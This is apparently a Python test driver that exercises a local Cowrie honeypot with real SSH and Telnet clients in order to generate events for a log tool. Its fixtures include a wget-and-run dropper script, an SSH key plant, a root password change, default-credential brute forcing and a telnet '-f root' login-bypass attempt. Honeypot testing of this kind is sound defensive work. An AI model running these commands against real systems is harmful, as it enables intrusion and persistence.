"""Drives a Cowrie honeypot on 127.0.0.1 (SSH 2222, Telnet 2223) through every event family
cowrieql maps, with real clients: paramiko, asyncssh and OpenSSH for SSH, a raw-socket bot for
Telnet. Run by run.sh with the venv's python (paramiko and asyncssh are installed there).

It also runs the loopback services the honeypot's traffic goes to: a file server for wget and
curl, an SMTP sink for the redirected forward, and an HTTP CONNECT proxy for the tunnelled one.
"""

import asyncio
import http.server
import os
import socket
import socketserver
import ssl
import struct
import subprocess
import tempfile
import threading
import time

import asyncssh
import paramiko

HOST = "127.0.0.1"
SSH, TELNET = 2222, 2223
# The sandbox this was written on keeps a closed port in TIME-WAIT unbindable even with
# SO_REUSEADDR: the file server takes a free port, run.sh chooses the other two per run.
FILES = 0
SMTP_PORT = int(os.environ.get("COWRIE_SMTP_PORT", "12525"))
PROXY_PORT = int(os.environ.get("COWRIE_PROXY_PORT", "13128"))
WORK = tempfile.mkdtemp(prefix="cowrie-drive-")
socketserver.ThreadingTCPServer.allow_reuse_address = True


def log(msg):
    print(f"drive: {msg}", flush=True)


# ---------------------------------------------------------------- loopback services
def serve_files():
    root = os.path.join(WORK, "www")
    os.makedirs(root)
    with open(os.path.join(root, "bins.sh"), "w") as f:
        f.write("#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x86; chmod +x x86; ./x86\n")
    with open(os.path.join(root, "x86"), "wb") as f:
        f.write(b"\x7fELF" + bytes(range(256)) * 4)

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **k):
            super().__init__(*a, directory=root, **k)

        def log_message(self, *a):
            pass

    global FILES
    srv = socketserver.ThreadingTCPServer((HOST, 0), Quiet)
    FILES = srv.server_address[1]
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()


def serve(port, handler):
    class H(socketserver.BaseRequestHandler):
        def handle(self):
            try:
                handler(self.request)
            except OSError:
                pass

    srv = socketserver.ThreadingTCPServer((HOST, port), H)
    srv.daemon_threads = True
    threading.Thread(target=srv.serve_forever, daemon=True).start()


def smtp_sink(sock):
    sock.sendall(b"220 sink ESMTP\r\n")
    sock.settimeout(5)
    buf = b""
    while b"QUIT" not in buf:
        data = sock.recv(4096)
        if not data:
            break
        buf += data
        for _ in data.split(b"\r\n")[:-1]:
            sock.sendall(b"250 ok\r\n")


def connect_proxy(sock):
    sock.settimeout(5)
    req = sock.recv(4096)
    if req.startswith(b"CONNECT"):
        sock.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
        data = sock.recv(4096)
        if data:
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")


# ---------------------------------------------------------------- SSH helpers
def client():
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    return c


def try_password(user, password):
    c = client()
    try:
        c.connect(HOST, SSH, username=user, password=password, look_for_keys=False, allow_agent=False, timeout=10)
        return c
    except paramiko.AuthenticationException:
        c.close()
        return None


def read_until_quiet(chan, quiet=1.0, limit=15.0):
    out, start, last = b"", time.time(), time.time()
    while time.time() - start < limit and time.time() - last < quiet:
        if chan.recv_ready():
            out += chan.recv(65536)
            last = time.time()
        else:
            time.sleep(0.05)
    return out


def shell_session(commands, env=None, size=(80, 24), resizes=()):
    c = try_password("root", "hunter2")
    assert c, "root/hunter2 should log in"
    chan = c.invoke_shell(term="xterm-256color", width=size[0], height=size[1], environment=env)
    read_until_quiet(chan)
    for i, cmd in enumerate(commands):
        if isinstance(cmd, bytes):
            chan.send(cmd)
        else:
            chan.send(cmd + "\n")
        read_until_quiet(chan, quiet=1.5 if "wget" in str(cmd) or "curl" in str(cmd) else 0.6)
        if i < len(resizes):
            chan.resize_pty(*resizes[i])
    chan.close()
    c.close()


def openssh(*args, password=None, tool="ssh"):
    env = dict(os.environ)
    if password is not None:
        askpass = os.path.join(WORK, "askpass")
        with open(askpass, "w") as f:
            f.write(f"#!/bin/sh\necho '{password}'\n")
        os.chmod(askpass, 0o700)
        env.update(SSH_ASKPASS=askpass, SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
    port = ["-P", str(SSH)] if tool == "scp" else ["-p", str(SSH)]
    base = [tool, *port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]
    return subprocess.run(base + list(args), env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=60)


def tls_client_hello(sni):
    ctx = ssl.create_default_context()
    out = ssl.MemoryBIO()
    tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


# ---------------------------------------------------------------- SSH scenarios
def brute_force():
    for user, password in [("root", "root"), ("root", "123456"), ("admin", "1234"), ("ubnt", "ubnt"),
                           ("root", "password"), ("пользователь", "пароль"), ("test", ""), ("", "")]:
        c = try_password(user, password)
        if c:
            c.close()
    log("brute force done")


def key_attempts():
    c = client()
    try:
        c.connect(HOST, SSH, username="root", pkey=paramiko.ECDSAKey.generate(), look_for_keys=False,
                  allow_agent=False, timeout=10)
    except paramiko.AuthenticationException:
        pass
    c.close()
    for kind in ["ed25519", "ecdsa"]:
        key = os.path.join(WORK, f"id_{kind}")
        subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", "", "-f", key], check=True)
        openssh("-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey", "-o", "IdentitiesOnly=yes",
                "-i", key, f"admin@{HOST}", "true")
    log("key attempts done")


def bot_shell():
    shell_session(
        [
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "",
            "   ",
            f"cd /tmp; wget http://{HOST}:{FILES}/bins.sh; chmod +x bins.sh; sh bins.sh",
            f"curl -O http://{HOST}:{FILES}/x86",
            f"wget http://{HOST}:1/refused.sh",
            "curl -s http://no-such-host.invalid/a.sh",
            "echo 'ssh-rsa AAAAB3Nza attacker@box' > /root/.ssh/authorized_keys",
            "cat > /tmp/notes.txt",
            b"first line of stdin\n",
            b"second line\n",
            b"\x04",
            "echo 'root:N3wPass!' | chpasswd",
            "echo 'id; uname -m' | sh",
            "python -c 'print(1)'",
            "nosuchcommand --flag",
            "exit",
        ],
        env={"LANG": "C.UTF-8", "BOT_ID": "fixture-7"},
        size=(132, 43),
        resizes=[(200, 50), (100, 30)],
    )
    log("bot shell done")


def exec_and_uploads():
    c = try_password("root", "hunter2")
    try:
        _, out, _ = c.exec_command("uname -a; id")
        out.read()
    except paramiko.SSHException:
        pass  # Cowrie may close an exec channel before paramiko reads its reply
    src = os.path.join(WORK, "upload.bin")
    with open(src, "wb") as f:
        f.write(b"#!/bin/sh\necho uploaded by sftp\n")
    sftp = c.open_sftp()
    sftp.put(src, "/tmp/upload.bin")
    sftp.close()
    c.close()
    scp_src = os.path.join(WORK, "scp.sh")
    with open(scp_src, "wb") as f:
        f.write(b"#!/bin/sh\necho uploaded by scp\n")
    r = openssh("-O", "-o", "PreferredAuthentications=password", scp_src, f"root@{HOST}:/tmp/", password="hunter2",
                tool="scp")
    log(f"uploads done (scp exit {r.returncode})")
    r = openssh("-o", "PreferredAuthentications=password", "-o", "SendEnv=LANG", f"root@{HOST}",
                "cat /etc/passwd | head -3", password="hunter2")
    log(f"openssh exec done (exit {r.returncode})")


def forwards():
    c = try_password("root", "hunter2")
    t = c.get_transport()
    cases = [
        (("www.example.com", 80), ("10.0.0.5", 51234),
         b"GET /index.php?id=1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"),
        (("shop.example.org", 443), ("127.0.0.1", 40000), tls_client_hello("shop.example.org")),
        (("mx.example.net", 25), ("localhost", 0),
         b"EHLO spam.example\r\nMAIL FROM:<offers@spam.example>\r\nRCPT TO:<victim@example.net>\r\n"),
        (("203.0.113.9", 8025), ("192.168.1.20", 5555),
         b"HELO relay.example\r\nMAIL FROM:<bulk@relay.example>\r\nQUIT\r\n"),
        (("api.example.com", 8080), ("10.1.1.1", 6000),
         b"POST /login HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 0\r\n\r\n"),
    ]
    for dest, orig, payload in cases:
        try:
            chan = t.open_channel("direct-tcpip", dest_addr=dest, src_addr=orig, timeout=10)
            chan.sendall(payload)
            read_until_quiet(chan, quiet=1.0, limit=4)
            chan.close()
        except (paramiko.ChannelException, paramiko.SSHException, EOFError) as e:
            log(f"forward {dest}: {e}")
    time.sleep(1)
    c.close()
    log("forwards done")


async def asyncssh_client():
    async with asyncssh.connect(HOST, SSH, username="admin", password="admin", known_hosts=None,
                                client_keys=None) as conn:
        await conn.run("uname -a", env={"TERM": "dumb"})
        await conn.run("w")
    log("asyncssh done")


def malformed_ssh():
    s = socket.create_connection((HOST, SSH), timeout=5)
    s.recv(256)
    s.sendall(b"SSH-2.0-probe_1.0\r\n")
    payload = bytes([5])  # SERVICE_REQUEST with no service name
    pad = 8 - (len(payload) + 5) % 8
    pad += 8 if pad < 4 else 0
    s.sendall(struct.pack(">IB", len(payload) + pad + 1, pad) + payload + b"\0" * pad)
    time.sleep(1)
    s.close()
    log("malformed packet sent")


# ---------------------------------------------------------------- Telnet
IAC, SB, SE, WILL, WONT, DO, DONT = 255, 250, 240, 251, 252, 253, 254
NEW_ENVIRON, NAWS = 39, 31


def telnet_read(s, want, limit=8.0):
    buf, end = b"", time.time() + limit
    s.settimeout(0.5)
    while time.time() < end and want not in buf:
        try:
            data = s.recv(4096)
        except socket.timeout:
            continue
        if not data:
            break
        buf += data
    return buf


def telnet_session(user, password, commands, pre=b""):
    s = socket.create_connection((HOST, TELNET), timeout=10)
    s.sendall(bytes([IAC, WILL, NAWS, IAC, DO, 3]) + pre)
    telnet_read(s, b"login: ")
    s.sendall(user + b"\r\n")
    telnet_read(s, b"assword: ")
    s.sendall(password + b"\r\n")
    telnet_read(s, b"# ", limit=5)
    for cmd in commands:
        s.sendall(cmd + b"\r\n")
        telnet_read(s, b"# ", limit=3)
    s.close()


def telnet():
    telnet_session(b"admin", b"admin123", [])
    telnet_session(b"root", b"vizxv", [b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI", b"", b"exit"])
    env = bytes([IAC, SB, NEW_ENVIRON, 0, 0]) + b"USER" + bytes([1]) + b"-f root" + bytes([IAC, SE])
    telnet_session(b"-f root", b"uname -a", [b"id", b"exit"], pre=bytes([IAC, WILL, NEW_ENVIRON]) + env)
    s = socket.create_connection((HOST, TELNET), timeout=10)
    telnet_read(s, b"login: ", limit=3)
    s.sendall(bytes([IAC, 7]))  # not a command after IAC: Twisted's parser is "Stumped"
    time.sleep(1)
    s.close()
    log("telnet done")


def main():
    serve_files()
    serve(SMTP_PORT, smtp_sink)
    serve(PROXY_PORT, connect_proxy)
    brute_force()
    key_attempts()
    bot_shell()
    exec_and_uploads()
    forwards()
    asyncio.run(asyncssh_client())
    malformed_ssh()
    telnet()


if __name__ == "__main__":
    main()
